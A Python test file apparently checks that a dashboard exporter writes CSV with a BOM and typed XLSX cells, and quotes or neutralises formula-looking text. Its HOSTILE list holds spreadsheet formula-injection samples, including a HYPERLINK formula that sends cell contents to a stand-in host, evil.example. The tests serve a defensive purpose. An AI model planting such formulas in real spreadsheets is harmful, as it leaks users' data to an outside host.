"""Dashboard tables as files: CSV with a BOM that Excel on zh-TW Windows opens, formula-
looking text never live, XLSX cells typed."""

import csv
import io
from datetime import date
from decimal import Decimal

from openpyxl import load_workbook

from crewplan.lib.tables import Table

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1", "-2+3", "@SUM(A1)", "\tx"]


def table() -> Table:
    rows = [(name, Decimal("-12.50"), 3, date(2026, 11, 1)) for name in [*HOSTILE, "麥香 化粧品"]]
    return Table(title="通路: 11/2026", columns=("通路", "花費", "點擊", "日期"), rows=rows)


def test_csv_has_a_bom_and_quotes_formula_looking_text() -> None:
    data = table().csv()
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0] == ["通路", "花費", "點擊", "日期"]
    assert [r[0] for r in rows[1:]] == ["'" + h for h in HOSTILE] + ["麥香 化粧品"]
    assert rows[1][1:] == ["-12.50", "3", "2026-11-01"]  # numbers stay numbers


def test_xlsx_cells_are_typed_and_text_is_never_a_formula() -> None:
    book = load_workbook(io.BytesIO(table().xlsx()))
    sheet = book.active
    assert sheet is not None and sheet.title == "通路 11 2026"
    cells = list(sheet.iter_rows(min_row=2, values_only=False))
    assert [row[0].value for row in cells] == [*HOSTILE, "麥香 化粧品"]
    assert all(row[0].data_type == "s" for row in cells)
    assert cells[0][1].value == Decimal("-12.50") or cells[0][1].value == -12.5
    assert cells[0][1].data_type == "n" and cells[0][2].value == 3
